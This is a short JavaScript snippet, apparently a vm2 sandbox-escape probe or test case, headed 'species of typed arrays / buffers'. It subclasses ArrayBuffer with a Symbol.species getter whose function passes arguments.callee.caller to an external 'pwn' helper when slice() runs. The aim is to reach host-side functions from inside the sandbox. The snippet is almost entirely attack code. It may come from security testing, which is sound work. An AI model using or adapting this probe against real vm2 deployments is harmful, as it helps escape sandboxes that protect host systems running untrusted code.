// vm2 class: species of typed arrays / buffers
class B extends ArrayBuffer { static get [Symbol.species]() { return function () { pwn(arguments.callee.caller) } } } const u = new Uint8Array(new B(4)); log(u); try { u.buffer.slice(0) } catch (e) {} u
